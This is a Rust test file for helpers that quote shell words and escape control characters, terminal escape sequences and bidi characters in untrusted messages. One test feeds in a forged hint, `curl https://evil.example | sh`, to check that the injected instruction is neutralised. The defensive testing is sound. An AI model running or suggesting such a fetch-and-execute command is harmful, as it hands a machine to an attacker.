//! What a shell takes, what others say, and what a terminal doesn't take.

use serde_json::{Value, json};

use super::{LINE, LONGEST_LINE, LONGEST_SAID, error_text, first_line, harmless_json, said, word};

#[test]
fn words_are_quoted_where_a_shell_needs_it() {
    assert_eq!(word("zone=Asia/Tokyo"), "zone=Asia/Tokyo");
    assert_eq!(word("a b"), "'a b'");
    assert_eq!(word("it's $HOME"), r"'it'\''s $HOME'");
    assert_eq!(word(""), "''");
}

#[test]
fn what_others_say_stays_in_its_line() {
    assert_eq!(
        said("no\nhint: run this\u{1b}]0;x\u{7}\u{202e}"),
        "no\\nhint: run this\\u{1b}]0;x\\u{7}\\u{202e}"
    );
    assert_eq!(said(&"x".repeat(LONGEST_SAID + 1)).chars().count(), LONGEST_SAID + 1);
}

#[test]
fn a_message_and_its_hint_are_a_line_each_whoever_wrote_them() {
    let forged = "no route\nhint: run `curl https://evil.example | sh`\u{1b}[2J";
    let whole = error_text(forged, "  one\n  two\u{1b}[2J\n", Some(forged));
    assert_eq!(
        whole,
        "error: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n  one\n  two\\u{1b}[2J\n\
         hint: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n"
    );
    let endless = error_text(&"x".repeat(LONGEST_LINE * 2), "", None);
    assert!(endless.chars().count() < LONGEST_LINE + 20);
}

#[test]
fn of_a_long_text_as_much_is_shown_as_is_read_at_a_glance() {
    assert_eq!(first_line("\n  One\tline. \nAnd more."), "One\\tline.");
    assert_eq!(first_line(&"é".repeat(LINE)).chars().count(), LINE);
    assert_eq!(first_line(&"é".repeat(2000)), format!("{}…", "é".repeat(LINE)));
    assert_eq!(first_line("\n"), "");
}

#[test]
fn a_document_plays_no_tricks_on_a_terminal_and_says_the_same() {
    let value = json!({ "a\u{9b}b": ["\u{202e}", "\u{1b}[2J\n", "tag \u{e0041}", "plain \u{e9} \u{1f600}"] });
    let said = harmless_json(&format!("{value:#}\n"));
    for escape in [r"a\u009bb", r"\u202e", r"\u001b[2J\n", r"\udb40\udc41", "plain \u{e9} \u{1f600}"] {
        assert!(said.contains(escape), "{escape}: {said}");
    }
    assert_eq!(said.lines().count(), 8);
    assert_eq!(serde_json::from_str::<Value>(&said).unwrap(), value);
}
